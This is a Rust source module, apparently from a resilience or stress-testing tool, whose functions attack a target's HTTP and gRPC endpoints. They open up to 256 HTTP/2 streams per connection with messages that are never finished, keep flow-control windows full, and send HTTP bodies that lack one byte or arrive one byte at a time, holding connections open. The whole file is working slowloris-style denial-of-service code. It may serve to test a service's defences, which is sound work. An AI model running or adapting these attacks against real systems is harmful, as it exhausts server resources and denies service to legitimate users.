//! Messages that never end.

use std::io::Result;
use std::time::Duration;

use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::time::{sleep, timeout};

use super::crowd::{Attacking, crowd};
use crate::frames::{
    CHECK, DECIDE, PAYLOAD_BYTES_MAX, REFLECT, WINDOW, call_of, flag, frame, kind,
};
use crate::peer::{acknowledge, connect, connect_h2, read_frame, source};
use crate::stream::Stream;
use crate::target::Target;

const GRPC_CONNECTIONS: u32 = 32;
const HTTP_CONNECTIONS: u32 = 1000;
/// The streams per connection: the most that the service allows, unless it announces fewer.
const STREAMS: usize = 256;
/// The announced length of each message: the largest that the service accepts.
const MESSAGE_BYTES: u32 = 8 << 20;
/// The same in the stream of decisions.
const CHECK_BYTES: u32 = 16 << 10;
/// The largest body that the service accepts, less one byte.
const BODY_BYTES: usize = 256 * 1024;

/// The sending windows of one connection and its streams.
struct Windows {
    connection: i64,
    initial: i64,
    streams: Vec<i64>,
    /// What is sent of each message at most: it lacks a byte.
    rest: Vec<i64>,
}

/// Opens as many streams as allowed on each connection, each with an unfinished message, and sends
/// as fast as flow control permits.
pub(super) fn unfinished_messages(target: Target) -> Attacking {
    open_unfinished(target, DECIDE, MESSAGE_BYTES)
}

/// The same for messages that the service reads as they arrive.
pub(super) fn unfinished_reflection(target: Target) -> Attacking {
    open_unfinished(target, REFLECT, MESSAGE_BYTES)
}

/// The same in the stream of decisions.
pub(super) fn unfinished_decisions(target: Target) -> Attacking {
    open_unfinished(target, CHECK, CHECK_BYTES)
}

/// Opens streams on many connections, each with a message of `length` that lacks a byte.
fn open_unfinished(target: Target, path: &'static [u8], length: u32) -> Attacking {
    crowd(GRPC_CONNECTIONS, move |number| async move {
        let mut stream = connect_h2(source(number), target.grpc, WINDOW).await?;
        let mut out = Vec::new();
        let block = call_of(path, &[]);
        let mut start = vec![0];
        start.extend_from_slice(&length.to_be_bytes());
        for id in ids() {
            frame(&mut out, kind::HEADERS, flag::END_HEADERS, id, &block);
            frame(&mut out, kind::DATA, flag::NONE, id, &start);
        }
        stream.write_all(&out).await?;
        let mut windows = Windows::new(length);
        loop {
            stream.write_all(&windows.fill()).await?;
            // Frames of the service enlarge the windows; without them, the windows stay closed.
            match timeout(Duration::from_millis(100), read_frame(&mut stream)).await {
                Ok(read) => {
                    let (head, payload) = read?;
                    acknowledge(&mut stream, head, &payload).await?;
                    windows.hear(head.kind, head.flags, head.stream, &payload);
                }
                Err(_) => sleep(Duration::from_millis(10)).await,
            }
        }
    })
}

/// Bodies that lack one byte.
pub(super) fn unfinished_bodies(target: Target) -> Attacking {
    crowd(HTTP_CONNECTIONS, move |number| async move {
        let mut stream = connect(source(number), target.http).await?;
        let head =
            format!("POST /json HTTP/1.1\r\nhost: h\r\ncontent-length: {BODY_BYTES}\r\n\r\n");
        stream.write_all(head.as_bytes()).await?;
        stream.write_all(&vec![b' '; BODY_BYTES - 1]).await?;
        hold(&mut stream).await
    })
}

/// Bodies sent byte by byte, each byte in a packet of its own.
pub(super) fn single_bytes(target: Target) -> Attacking {
    crowd(32, move |number| async move {
        let mut stream = connect(source(number), target.http).await?;
        let head =
            format!("POST /json HTTP/1.1\r\nhost: h\r\ncontent-length: {BODY_BYTES}\r\n\r\n");
        stream.write_all(head.as_bytes()).await?;
        for _ in 1..BODY_BYTES {
            stream.write_all(b" ").await?;
            // Lets the service read it before the next one comes.
            sleep(Duration::from_millis(1)).await;
        }
        hold(&mut stream).await
    })
}

/// Waits until the service ends the connection.
pub(super) async fn hold(stream: &mut Stream) -> Result<()> {
    let mut scrap = [0; 1024];
    loop {
        if stream.read(&mut scrap).await? == 0 {
            return Ok(());
        }
    }
}

/// The numbers of the streams.
fn ids() -> impl Iterator<Item = u32> {
    (1..).step_by(2).take(STREAMS)
}

// === impl Windows ===

impl Windows {
    fn new(length: u32) -> Windows {
        // The five-byte prefix of each message has already been sent.
        let sent = 5;
        let window = i64::from(WINDOW);
        Windows {
            connection: window - sent * i64::try_from(STREAMS).unwrap_or(0),
            initial: window,
            streams: vec![window - sent; STREAMS],
            rest: vec![i64::from(length) - 1; STREAMS],
        }
    }

    /// Frames of zeros for every stream, as far as the windows reach.
    fn fill(&mut self) -> Vec<u8> {
        let mut out = Vec::new();
        let zeros = [0; PAYLOAD_BYTES_MAX];
        let streams = self.streams.iter_mut().zip(&mut self.rest);
        for ((window, rest), id) in streams.zip(ids()) {
            let most = self.connection.min(*window).min(*rest);
            let length = usize::try_from(most).unwrap_or(0).min(zeros.len());
            if length > 0 {
                frame(&mut out, kind::DATA, flag::NONE, id, &zeros[..length]);
                let length = i64::try_from(length).unwrap_or(0);
                self.connection -= length;
                *window -= length;
                *rest -= length;
            }
        }
        out
    }

    /// Handles a frame of the service: its window updates and the end of a stream.
    fn hear(&mut self, kind: u8, flags: u8, stream: u32, payload: &[u8]) {
        let number = |bytes: &[u8]| {
            let bytes = bytes.try_into().unwrap_or([0; 4]);
            i64::from(u32::from_be_bytes(bytes))
        };
        let index = usize::try_from(stream / 2).unwrap_or(usize::MAX);
        match kind {
            kind::WINDOW_UPDATE if stream == 0 => self.connection += number(payload),
            kind::WINDOW_UPDATE => {
                if let Some(window) = self.streams.get_mut(index) {
                    *window += number(payload);
                }
            }
            kind::SETTINGS => {
                for setting in payload.chunks_exact(6).filter(|setting| setting[1] == 4) {
                    let grown = number(&setting[2..]) - self.initial;
                    self.initial += grown;
                    self.streams.iter_mut().for_each(|window| *window += grown);
                }
            }
            // A response or a reset: nothing more can be sent on this stream.
            kind::RST_STREAM => self.close(index),
            kind::HEADERS if flags & flag::END_STREAM != 0 => self.close(index),
            _ => {}
        }
    }

    fn close(&mut self, index: usize) {
        if let Some(window) = self.streams.get_mut(index) {
            *window = i64::MIN / 2;
        }
    }
}
